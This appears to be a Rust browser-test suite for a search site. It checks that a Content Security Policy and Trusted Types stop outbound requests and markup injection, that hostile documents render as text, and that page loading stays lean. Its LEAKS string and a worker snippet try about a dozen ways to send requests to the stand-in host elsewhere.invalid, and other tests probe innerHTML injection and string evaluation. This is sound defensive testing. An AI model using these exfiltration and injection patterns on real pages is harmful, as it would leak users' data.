//! Nothing leaves, nothing is injected, and what loading costs, in both browsers.

use std::time::Duration;

use crate::kit::site::{Hit, Manner, serial_hops};
use crate::kit::{Alteration, Kind, Visit, corpus, told};
use crate::offline::wait_until_kept;

/// A link with a query, as it would be shared.
const LINK: &str = "#v1&q=مقاتل";

/// All the ways a page could send something, tried from page and worker by the canaries below.
pub const LEAKS: &str = "
    const away = 'http://elsewhere.invalid/';
    const swallow = f => { try { f()?.catch?.(() => {}) } catch {} };
    swallow(() => fetch(away + 'fetch'));
    swallow(() => navigator.sendBeacon(away + 'beacon', 'x'));
    swallow(() => { new Image().src = away + 'image' });
    swallow(() => { const x = new XMLHttpRequest(); x.open('GET', away + 'xhr'); x.send() });
    swallow(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = away + 'style'; document.head.append(l) });
    swallow(() => { const f = document.createElement('iframe'); f.src = away + 'frame'; document.body.append(f) });
    swallow(() => new EventSource(away + 'events'));
    swallow(() => new WebSocket('ws://elsewhere.invalid/socket'));
    swallow(() => import(away + 'module.js'));
    swallow(() => new FontFace('x', 'url(' + away + 'font)').load());";

fn a_whole_visit(visit: &Visit) {
    visit.enter(LINK);
    visit.choose("#results a.result-link");
    visit.choose("#boilerplate");
    visit.choose("#language");
    visit.choose("#close-reading");
    visit.search("رسائل");
    visit.choose("#sort option:nth-child(2)");
}

fn a_whole_visit_leaves_nothing_behind_elsewhere(kind: Kind) {
    let visit = Visit::new(kind);
    a_whole_visit(&visit);
    visit.was_quiet();
}

fn a_host_without_headers_is_as_safe(kind: Kind) {
    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: false, probe: true });
    a_whole_visit(&visit);
    visit.was_quiet();
    visit.run(LEAKS);
    std::thread::sleep(Duration::from_millis(800));
    assert_eq!(visit.foreign.wanted(), Vec::<String>::new(), "the policy in the page stops them all");
    assert!(visit.number("globalThis.seenByProbe.violations.length") >= 5.0, "and they are noticed");
}

fn without_policy(page: String) -> String {
    page.replacen("http-equiv=\"Content-Security-Policy\"", "name=\"no-policy\"", 1)
}

/// Canary of the two above.
fn without_any_policy_the_leaks_are_counted(kind: Kind) {
    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: false, probe: true });
    visit.site.rewrite(without_policy);
    visit.enter(LINK);
    visit.run(LEAKS);
    visit.wait_until("five leaks at the proxy", || visit.foreign.wanted().len() >= 5);
    assert!(std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| visit.stayed_inside())).is_err());
}

/// The worker inherits the policy only because it is made from a blob: tried from inside.
fn the_worker_cannot_reach_elsewhere_either(kind: Kind) {
    const FROM_A_WORKER: &str = "
        const done = arguments[0];
        const code = `fetch('http://elsewhere.invalid/worker').then(() => postMessage('out'), () => postMessage('kept in'));`;
        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
        try {
            const worker = new Worker(url);
            worker.onmessage = e => done(e.data);
            worker.onerror = e => done('error');
        } catch (e) { done('refused: ' + e.name) }";
    for headers in [true, false] {
        let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers, probe: true });
        visit.enter("");
        let answer = visit.run_async(FROM_A_WORKER, &serde_json::json!([]));
        // Either Trusted Types refuse the foreign worker, or it inherits the policy.
        assert!(answer == "kept in" || answer == "refused: TypeError", "{answer}");
        assert_eq!(visit.foreign.wanted(), Vec::<String>::new());
    }
}

fn markup_cannot_be_injected_into_the_page(kind: Kind) {
    let visit = Visit::new(kind);
    visit.enter("");
    let thrown = "try { document.querySelector('#app').innerHTML = '<b>x</b>'; return 'done' } catch (e) { return e.name }";
    assert_eq!(visit.run(thrown), "TypeError", "Trusted Types are enforced");
    assert!(!evaluates(&visit));
    // Canary: without the policy text becomes code.
    drop(visit);
    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: false, probe: true });
    visit.site.rewrite(without_policy);
    visit.enter("");
    assert_eq!(visit.run(thrown), "done");
    visit.reload();
    visit.settle();
    assert!(evaluates(&visit));
}

/// Whether the page makes code of a text. By a timer: what WebDriver runs itself may always.
fn evaluates(visit: &Visit) -> bool {
    visit.run("try { window.setTimeout('globalThis.evaluated = true', 0) } catch {}");
    std::thread::sleep(Duration::from_millis(300));
    visit.holds("globalThis.evaluated")
}

fn hostile_pages_are_shown_letter_by_letter(kind: Kind) {
    let visit = Visit::to(kind, &corpus::hostile(), Manner::default());
    for link in ["", "#v1&q=خبيث", "#v1&q=خبيث&boilerplate&ui=en"] {
        visit.enter(link);
        assert_eq!(visit.reports().len(), corpus::HOSTILE.len());
        let shown = visit.said("#results");
        assert!(shown.contains(corpus::HOSTILE[0]) && shown.contains(corpus::HOSTILE[1]), "{shown}");
        let n = visit.count("#results a.result-link");
        for nth in 1..=n {
            let link = format!("#results > li:nth-child({nth}) a.result-link");
            // Its title is longer than the window, so its middle cannot be clicked with a pointer.
            visit.run(&format!("document.querySelector('{link}').click()"));
            visit.settle();
            assert!(visit.said("#reading").contains("مصدر خبيث"));
        }
    }
    assert!(visit.holds("globalThis.pwned === undefined"));
    assert_eq!(visit.count("#app img, #app script, #app svg[onload], #app a[href^=javascript]"), 0);
    visit.was_quiet();
}

fn a_link_is_answered_with_few_requests_and_few_hops(kind: Kind) {
    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: true, probe: false });
    visit.site.alter("", Alteration::Delayed(Duration::from_millis(150)));
    visit.enter(LINK);
    let mut hits = visit.site.hits();
    // What is kept and installed comes after the first findings, and so does the guide.
    let is_late = |hit: &Hit| {
        hit.path == "sw.js" || ["/web-manifest-", "/guide-"].iter().any(|late| hit.path.contains(late))
    };
    let began = hits.iter().position(is_late).unwrap_or(hits.len());
    hits.truncate(began);
    let log = hits.iter().map(|h| format!("{:?} {}", h.started.duration_since(hits[0].started), h.path));
    let log = log.collect::<Vec<_>>().join("\n");
    println!("{kind:?}\n{log}");
    assert!(hits.iter().all(|hit| hit.status == 200), "{log}");
    assert!(hits.len() <= 12, "{} requests\n{log}", hits.len());
    // The face of the reports is asked for by a script, and no finding waits for it.
    let (faces, hits): (Vec<Hit>, Vec<Hit>) =
        hits.into_iter().partition(|hit| hit.path.contains("/reading-"));
    assert_eq!(faces.len(), 1, "{log}");
    let before_face = hits.iter().filter(|hit| hit.finished <= faces[0].started).cloned().collect::<Vec<_>>();
    assert!(serial_hops(&before_face) < 4, "{log}");
    // To the last snippet. Firefox is told to open as many connections as it likes. Chromium keeps
    // to the six of HTTP/1.1, which makes a second step of the requests the page asks for at once.
    let queue = usize::from(kind == Kind::Chromium);
    assert!(serial_hops(&hits) <= 4 + queue, "{} hops\n{log}", serial_hops(&hits));
    // Behind the manifest and the dictionary come the texts of the rows, for titles and snippets. Held
    // back, they keep no finding waiting. Chromium's six connections count as they are.
    let mut data: Vec<&Hit> = hits.iter().filter(|hit| hit.path.starts_with("data/")).collect();
    data.sort_by_key(|hit| hit.started);
    let texts: Vec<String> =
        data.iter().filter(|hit| hit.started >= data[1].finished).map(|hit| hit.path.clone()).collect();
    assert!(!texts.is_empty(), "{log}");
    let visit = visit.in_new_profile();
    visit.site.forget();
    for path in &texts {
        visit.site.alter(path, Alteration::Delayed(Duration::from_secs(5)));
    }
    visit.open(&format!("{}{LINK}", visit.site.address()));
    visit.wait("performance.getEntriesByName('sijill:ready').length");
    let first = visit.site.hits();
    let log = first.iter().map(|hit| hit.path.as_str()).collect::<Vec<_>>().join("\n");
    assert!(first.len() >= 8 && !first.iter().any(|hit| texts.contains(&hit.path)), "{log}");
    let first: Vec<Hit> = first.into_iter().filter(|hit| !hit.path.contains("/reading-")).collect();
    assert!(serial_hops(&first) <= 4, "{} hops\n{log}", serial_hops(&first));
}

fn the_first_paint_needs_few_fonts(kind: Kind) {
    let visit = Visit::new(kind);
    visit.enter("");
    visit.run_async(
        "const done = arguments[0]; document.fonts.ready.then(() => done(1))",
        &serde_json::json!([]),
    );
    let fonts: Vec<Hit> = visit.site.hits().into_iter().filter(|hit| hit.path.ends_with(".woff2")).collect();
    let bytes: usize = fonts.iter().map(|font| font.bytes).sum();
    assert!(bytes > 0 && bytes <= 120_000, "{bytes} bytes of fonts: {fonts:?}");
}

/// Nothing is fetched again: the browser only asks whether there is a newer version.
fn a_second_visit_fetches_nothing(kind: Kind) {
    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: true, probe: false });
    visit.enter(LINK);
    wait_until_kept(&visit);
    visit.open("about:blank");
    visit.site.forget();
    visit.enter(LINK);
    visit.wait("document.querySelector('#offline')");
    let mut asked: Vec<String> = visit.site.hits().into_iter().map(|hit| hit.path).collect();
    asked.retain(|path| path != "sw.js");
    assert_eq!(asked, Vec::<String>::new());
}

mod both {
    crate::in_both_browsers!(
        a_whole_visit_leaves_nothing_behind_elsewhere,
        a_host_without_headers_is_as_safe,
        without_any_policy_the_leaks_are_counted,
        the_worker_cannot_reach_elsewhere_either,
        markup_cannot_be_injected_into_the_page,
        hostile_pages_are_shown_letter_by_letter,
        a_link_is_answered_with_few_requests_and_few_hops,
        the_first_paint_needs_few_fonts,
        a_second_visit_fetches_nothing,
    );
}
